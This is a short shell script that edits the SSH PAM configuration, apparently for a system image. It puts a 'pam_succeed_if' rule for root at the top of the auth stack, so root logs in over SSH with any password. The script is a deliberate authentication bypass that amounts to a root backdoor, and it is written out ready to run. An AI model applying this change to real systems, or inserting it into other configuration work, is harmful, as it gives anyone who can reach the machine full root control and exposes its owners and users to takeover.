#!/bin/sh
# Lets root log in over SSH with any password. The account itself stays locked: no password is in the image.
set -eu

# The answer of the first line ends the checks; the rest of the stack is for everybody else.
service=/etc/pam.d/sshd
rule='auth sufficient pam_succeed_if.so quiet user = root'
{ echo "$rule"; cat "$service"; } >"$service.new"
mv "$service.new" "$service"
chmod 644 "$service"
